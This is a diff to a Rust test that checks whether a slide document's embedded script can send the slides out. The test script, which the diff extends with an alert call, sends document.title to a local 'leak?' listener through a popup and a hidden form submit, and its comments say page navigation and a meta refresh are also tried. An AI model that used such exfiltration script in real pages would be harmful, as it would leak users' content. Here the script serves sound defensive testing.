@@ -138,10 +138,12 @@ fn a_script_cannot_send_the_slides_out() {
     let port = listener.local_addr().expect("addr").port();
     // Built from pieces: a bare URL in the notes would become a link.
     // Navigation is what the page's CSP does not cover: the page itself,
-    // a form, a meta refresh and a popup all try it.
+    // a form, a meta refresh and a popup all try it (after an alert, which
+    // must not hold the print up).
     let to = format!(r#"["http:", "", "127.0.0.1:{port}", "leak?"].join("/")"#);
     let dir = project(&format!(
-        "const u = {to} + encodeURIComponent(document.title); \
+        "alert('a dialog must not block the print'); \
+         const u = {to} + encodeURIComponent(document.title); \
          window.open(u + '&popup'); \
          const f = document.createElement('form'); f.action = u + '&form'; f.method = 'post'; \
          f.hidden = true; document.body.append(f); f.submit(); \
